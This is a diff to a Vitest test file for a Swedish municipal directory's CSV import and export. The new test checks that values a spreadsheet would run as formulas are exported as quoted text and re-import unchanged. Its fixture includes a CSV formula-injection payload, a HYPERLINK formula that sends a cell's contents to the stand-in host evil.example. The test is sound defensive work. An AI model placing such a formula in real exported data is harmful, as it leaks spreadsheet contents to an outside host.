@@ -1,3 +1,4 @@
+import { parse } from 'csv-parse/sync';
 import { beforeEach, describe, expect, it } from 'vitest';
 import { adminApp, snapshot, UMEA, VANNAS } from '../admin/support.js';
 import { useRedis } from '../support/redis.js';
@@ -37,10 +38,52 @@ describe('directory CSV import and export', () => {
     const lines = exported.text.replace(/^\uFEFF/, '').trim().split('\n');
     expect(lines[0]).toBe('id,kind,givenName,familyName,name,title,department,keywords,location,phoneNumbers,extension,email,absenceReason,absenceText,absenceUntil');
     expect(lines).toHaveLength(4);
-    expect(exported.text).toContain('Åsa,Öberg,Åsa Öberg,Bygglovshandläggare,,bygglov|strandskydd,,+4693514123|+46701234567,2460123,asa.oberg@vannas.se,,,');
+    expect(exported.text).toContain("Åsa,Öberg,Åsa Öberg,Bygglovshandläggare,,bygglov|strandskydd,,'+4693514123|+46701234567,2460123,asa.oberg@vannas.se,,,");
 
     const again = await upload(`/api/v1/directory/entries/import?municipality=${VANNAS}&mode=replace`, exported.text);
     expect(again.body).toMatchObject({ rows: 3, created: 0, updated: 0, unchanged: 3, deleted: 0 });
+  });
+
+  it('exports cells a spreadsheet would run as formulas as text, and every column imports back unchanged', async () => {
+    const hyperlink = '=HYPERLINK("http://evil.example/?q="&B2,"Öppna")';
+    const entry = {
+      kind: 'person',
+      givenName: hyperlink,
+      familyName: '@SUM(A1:A9)',
+      title: '-2+3 (kalkyl)',
+      department: '+Socialtjänsten',
+      keywords: ['=bygglov', 'strandskydd'],
+      location: "'=citerad redan",
+      phoneNumbers: ['+46935141 23', '070-123 45 67'],
+      extension: '2460123',
+      email: 'asa.oberg@vannas.se',
+      municipalityId: VANNAS,
+      absence: { reason: 'meeting', text: '=1+1 tillbaka snart', until: '2099-01-01T14:00:00+01:00' },
+    };
+    const created = await app.t.call('POST', '/api/v1/directory/entries', { auth: app.admin, body: entry });
+    expect(created.status, JSON.stringify(created.body)).toBe(201);
+    const stored = (await app.t.call('GET', `/api/v1/directory/entries/${created.body.id as string}`, { auth: app.admin })).body;
+
+    const exported = await download(`/api/v1/directory/entries/export?municipality=${VANNAS}`);
+    const [row] = parse(exported.text, { bom: true, columns: true }) as Record<string, string>[];
+    expect(row).toMatchObject({
+      givenName: `'${hyperlink}`,
+      familyName: "'@SUM(A1:A9)",
+      title: "'-2+3 (kalkyl)",
+      department: "'+Socialtjänsten",
+      keywords: "'=bygglov|strandskydd",
+      location: "''=citerad redan",
+      phoneNumbers: "'+4693514123|+46701234567",
+      absenceText: "'=1+1 tillbaka snart",
+    });
+    expect(Object.values(row!).filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+
+    const before = await snapshot(ctx);
+    const again = await upload(`/api/v1/directory/entries/import?municipality=${VANNAS}&mode=replace`, exported.text);
+    expect(again.body).toMatchObject({ rows: 1, created: 0, updated: 0, unchanged: 1, deleted: 0 });
+    expect(await snapshot(ctx)).toEqual(before);
+    expect((await app.t.call('GET', `/api/v1/directory/entries/${created.body.id as string}`, { auth: app.admin })).body).toEqual(stored);
+    expect(stored).toMatchObject({ givenName: hyperlink, location: "'=citerad redan", phoneNumbers: ['+4693514123', '+46701234567'] });
   });
 
   it('reads a semicolon-separated file as Swedish Excel writes it', async () => {
